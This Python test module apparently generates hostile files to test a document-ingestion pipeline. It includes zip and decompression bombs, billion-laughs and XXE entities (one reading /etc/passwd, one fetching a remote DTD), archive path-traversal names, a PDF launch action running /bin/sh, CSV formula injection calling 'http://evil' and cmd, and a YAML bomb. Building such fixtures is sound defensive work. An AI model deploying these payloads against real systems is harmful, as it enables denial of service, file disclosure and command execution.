"""Files that want to harm who reads them, built small: what they would grow to is what hurts."""

import base64
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from tests.ingestion.extraction.office_files import OLE, docx, zipped
from tests.ingestion.extraction.pdf_files import paragraph, pdf

MEGABYTE = 2**20
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
BILLION_LAUGHS = b"<!DOCTYPE r [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
)
LOCAL_FILE = b'<!DOCTYPE r [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
ELSEWHERE = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;<!ENTITY a11 "x">]>'


def zip_bomb(member: str, megabytes: int) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, member: b"\0" * megabytes * MEGABYTE})


def lying_zip(member: str) -> bytes:
    """Its directory declares a hundredth of what the member unpacks to."""
    size = 30 * MEGABYTE
    honest = zipped({"[Content_Types].xml": TYPES, member: b" " * size})
    return honest.replace(struct.pack("<L", size), struct.pack("<L", size // 100))


def overlapping_zip() -> bytes:
    """Many names for the same packed bytes, as the flat bomb of Fifield (2019) has."""
    packed = zlib.compress(b"0" * 4 * MEGABYTE, 9)[2:-4]
    header = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(packed), 4 * MEGABYTE, 6, 0) + b"word/a"
    entries = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(packed), 4 * MEGABYTE, 10, 0, 0, 0, 0, 0, 0)
        + b"word/%05d" % number
        for number in range(300)
    )
    body = header + packed
    return body + entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 300, 300, len(entries), len(body), 0)


def nested_zips(depth: int) -> bytes:
    content = b"0" * MEGABYTE
    for level in range(depth):
        content = zipped({f"word/{level}-{copy}.zip": content for copy in range(10)})
    return content


def word_xml(body: bytes, doctype: bytes = b"", **parts: bytes) -> bytes:
    document = b'<?xml version="1.0"?>%s<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>'
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    content = TYPES.replace(
        b"</Types>",
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>',
    )
    return zipped(
        {
            "[Content_Types].xml": content,
            "_rels/.rels": relations,
            "word/document.xml": document % (doctype, W.encode(), body),
            **parts,
        }
    )


def office_with_entities(member: str, doctype: bytes) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, member: b'<?xml version="1.0"?>' + doctype + b"<r>&a11;</r>"})


def escaping_names() -> bytes:
    good = BytesIO(docx(lambda document: document.add_paragraph("Urlop trwa 26 dni.")))
    with zipfile.ZipFile(good, "a") as archive:
        for name in ("../../../../tmp/knowledgetree-escaped", "/tmp/knowledgetree-escaped", "word/../../escaped"):
            archive.writestr(name, b"evil")
    return good.getvalue()


def png(width: int, height: int, data: bytes) -> bytes:
    def piece(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", zlib.compress(data)) + piece(b"IEND", b"")


def pdf_objects(*objects: bytes) -> bytes:
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    tail = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return body + tail + b"trailer << /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF" % (size, len(body))


def pdf_stream(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(content), filters, content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def pdf_with_pages(count: int) -> bytes:
    """One page under `count` names."""
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, b"3 0 R " * count),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )


def eml(body: bytes, kind: bytes = b"text/plain; charset=utf-8") -> bytes:
    return b"From: a@example.pl\r\nTo: b@example.pl\r\nSubject: x\r\nContent-Type: %s\r\n\r\n%s" % (kind, body)


def nested_mail(depth: int) -> bytes:
    message = eml(b"w srodku")
    for _ in range(depth):
        message = eml(message, b"message/rfc822")
    return message


def nested_parts(depth: int) -> bytes:
    opening = b"".join(
        b'--b%d\r\nContent-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % (n, n + 1) for n in range(depth)
    )
    return eml(opening, b'multipart/mixed; boundary="b0"')


TEXT = pdf([paragraph(["Urlop wypoczynkowy trwa 26 dni i jest platny."])])
WORD = docx(lambda document: document.add_paragraph("Urlop trwa 26 dni."))
PAGE = b"<!doctype html><html><body><h1>Urlop</h1>%s</body></html>"

FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "zip bomb, DOCX": ("a.docx", lambda: zip_bomb("word/document.xml", 600)),
    "zip bomb, XLSX": ("a.xlsx", lambda: zip_bomb("xl/workbook.xml", 200)),
    "zip bomb, PPTX": ("a.pptx", lambda: zip_bomb("ppt/presentation.xml", 200)),
    "zip that lies about its size": ("a.docx", lambda: lying_zip("word/document.xml")),
    "zip with overlapping members": ("a.docx", overlapping_zip),
    "zips in zips": ("a.docx", lambda: nested_zips(5)),
    "zip with 30,000 members": ("a.docx", lambda: zipped({f"word/{n}": b"" for n in range(30_000)})),
    "names that climb out of the archive": ("a.docx", escaping_names),
    "entities that grow, DOCX": ("a.docx", lambda: word_xml(b"<w:p>&a11;</w:p>", BILLION_LAUGHS)),
    "entities that grow, XLSX": ("a.xlsx", lambda: office_with_entities("xl/workbook.xml", BILLION_LAUGHS)),
    "entities that grow, PPTX": ("a.pptx", lambda: office_with_entities("ppt/presentation.xml", BILLION_LAUGHS)),
    "entities that grow, SVG": (
        "a.svg",
        lambda: BILLION_LAUGHS + b"<svg xmlns='http://www.w3.org/2000/svg'>&a11;</svg>",
    ),
    "entities that grow, HTML": ("a.html", lambda: BILLION_LAUGHS + PAGE % b"<p>&a11;</p>"),
    "entity of a local file": ("a.docx", lambda: word_xml(b"<w:p>&a11;</w:p>", LOCAL_FILE)),
    "entity from elsewhere": ("a.docx", lambda: word_xml(b"<w:p>&a11;</w:p>", ELSEWHERE)),
    "deep XML": ("a.docx", lambda: word_xml(b"<w:p>" * 200_000)),
    "deep tables, DOCX": ("a.docx", lambda: word_xml(b"<w:tbl><w:tr><w:tc>" * 3000 + b"</w:tc></w:tr></w:tbl>" * 3000)),
    "picture of 10 billion pixels": ("a.png", lambda: png(100_000, 100_000, b"\0" * MEGABYTE)),
    "picture that unpacks to 300 MB": ("a.png", lambda: png(10_000, 10_000, b"\0" * 300 * MEGABYTE)),
    "PDF whose pages are their own parent": (
        "a.pdf",
        lambda: pdf_objects(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"),
    ),
    "PDF that claims 2 billion pages": ("a.pdf", lambda: TEXT.replace(b"/Count 1", b"/Count 2147483647")),
    "PDF with 100,000 pages": ("a.pdf", lambda: pdf_with_pages(100_000)),
    "PDF of deep arrays": ("a.pdf", lambda: pdf_objects(b"<< /Type /Catalog /Pages " + b"[" * 300_000 + b" >>")),
    "PDF stream that unpacks to 300 MB": ("a.pdf", lambda: pdf_stream(zlib.compress(b" " * 300 * MEGABYTE))),
    "PDF stream packed twice": (
        "a.pdf",
        lambda: pdf_stream(zlib.compress(zlib.compress(b" " * 300 * MEGABYTE, 9), 9), b"[/FlateDecode /FlateDecode]"),
    ),
    "PDF of a million letters on one page": (
        "a.pdf",
        lambda: pdf_stream(zlib.compress(b"BT /F1 9 Tf " + b"1 0 0 1 9 9 Tm (aaaaaaaaaa) Tj " * 30_000 + b"ET")),
    ),
    "PDF with an endless chain of cross-references": (
        "a.pdf",
        lambda: TEXT.replace(b"trailer <<", b"trailer << /Prev 9 "),
    ),
    "PDF with an action": (
        "a.pdf",
        lambda: TEXT.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (/bin/sh) >>"),
    ),
    "deep JSON": ("a.json", lambda: b"[" * 200_000 + b"]" * 200_000),
    "JSON with a huge number": ("a.json", lambda: b'{"a": 1' + b"0" * 500_000 + b"}"),
    "deep HTML": ("a.html", lambda: PAGE % (b"<div>" * 50_000 + b"Urlop")),
    "deep lists, HTML": ("a.html", lambda: PAGE % (b"<ul><li>" * 5000 + b"Urlop")),
    "HTML with a million attributes": ("a.html", lambda: PAGE % (b"<p " + b"a=1 " * 300_000 + b">Urlop</p>")),
    "HTML table that spans a billion cells": (
        "a.html",
        lambda: PAGE % b"<table><tr><td colspan=1000000000 rowspan=1000000000>Urlop</td><td>x</td></tr></table>",
    ),
    "CSV of formulas": (
        "a.csv",
        lambda: b"nazwa;kwota\n=HYPERLINK(\"http://evil\");=cmd|' /C calc'!A0\n@SUM(1);+1\n" * 20,
    ),
    "CSV with an open quote": ("a.csv", lambda: b'a;b\n"' + b"x;y\n" * 40_000),
    "CSV of 100,000 columns": ("a.csv", lambda: b";".join(b"k%d" % n for n in range(100_000)) + b"\n1;2\n"),
    "mail in mail in mail": ("a.eml", lambda: nested_mail(500)),
    "mail of parts in parts": ("a.eml", lambda: nested_parts(2000)),
    "mail with a zip bomb": (
        "a.eml",
        lambda: eml(
            b'--x\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; filename="../../a.zip"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(zip_bomb("word/x", 50)) + b"--x--",
            b'multipart/mixed; boundary="x"',
        ),
    ),
    "one line of a million letters": ("a.txt", lambda: b"a" * 1_000_000),
    "a million spaces": ("a.md", lambda: b"# a" + b" " * 1_000_000 + b"b\n"),
    "a hundred thousand opening brackets": ("a.md", lambda: b"[" * 100_000 + b"\n" + b"![](" * 50_000),
    "a hundred thousand backticks": ("a.md", lambda: b"`a" * 100_000 + b"\n\n" + b"`" * 100_001),
    "a hundred thousand asterisks": ("a.md", lambda: b"*a_" * 100_000),
    "quotes in quotes": ("a.md", lambda: b">" * 50_000 + b" a\n"),
    "lists in lists": ("a.md", lambda: b"".join(b" " * 2 * n + b"- a\n" for n in range(1000))),
    "a table of bars": ("a.md", lambda: b"|" * 200_000 + b"\n" + b"|-" * 100_000 + b"\n" + b"|" * 200_000),
    "a front matter that never ends": ("a.md", lambda: b"---\n" + b"a: b\n" * 20_000),
    "a YAML bomb": (
        "a.md",
        lambda: b"---\na: &a [x, x]\n" + b"".join(b"a%d: &a%d [*a, *a]\n" % (n, n) for n in range(50)) + b"---\n# b\n",
    ),
    "full stops and numbers": ("a.txt", lambda: b"1.2.3. " * 30_000),
    "a law of articles": ("a.txt", lambda: b"Art. 1. 1. 1) a) " * 5000),
    "zeros": ("a.txt", lambda: b"\0" * 1_000_000),
    "letters between zeros": ("a.txt", lambda: b"u\0r\0l\0o\0p\0" * 100_000),
    "bytes in no encoding": ("a.txt", lambda: bytes(range(128, 256)) * 2000),
    "lone surrogates": ("a.txt", lambda: b"\xff\xfe" + b"\x00\xd8" * 100_000 + "Urlop".encode("utf-16-le")),
    "combining marks without end": ("a.txt", lambda: ("a" + "\u0301" * 300_000).encode()),
    "text written both ways": ("a.txt", lambda: "\u202eplorU\u202c \u2066\u2067urlop".encode() * 1000),
    "a PDF that is called DOCX": ("a.docx", lambda: TEXT),
    "a DOCX that is called PDF": ("a.pdf", lambda: WORD),
    "a program that is called DOC": ("a.doc", lambda: b"MZ\x90\0" + b"\0\1\2" * 20_000),
    "PDF and ZIP at once": ("a.pdf", lambda: TEXT + zip_bomb("word/document.xml", 10)),
    "HTML and script at once": ("a.html", lambda: b"GIF89a<!doctype html><script>alert(1)</script>"),
    "a truncated PDF": ("a.pdf", lambda: TEXT[: len(TEXT) // 2]),
    "a truncated DOCX": ("a.docx", lambda: WORD[: len(WORD) // 2]),
    "a truncated OLE file": ("a.doc", lambda: OLE + b"\xff" * 100),
    "an OLE file whose sectors chase each other": ("a.xls", lambda: OLE + b"\0" * 40 + b"\1\0\0\0" * 400),
    "a truncated mail": ("a.eml", lambda: eml(b"--x\r\nContent-Tr", b'multipart/mixed; boundary="x"')),
    "a truncated PNG": ("a.png", lambda: png(100, 100, b"\0" * 100)[:50]),
    "truncated JSON": ("a.json", lambda: json.dumps({"a": ["urlop"] * 1000}).encode()[:-20]),
    "RTF of deep groups": ("a.rtf", lambda: b"{\\rtf1 " + b"{" * 200_000),
    "LaTeX of macros that grow": (
        "a.tex",
        lambda: (
            b"\\documentclass{article}\\begin{document}"
            + b"".join(b"\\newcommand{\\%c}{%s}" % (98 + n, b"\\%c" % (97 + n) * 10) for n in range(20))
            + b"\\u Urlop\\end{document}"
        ),
    ),
}
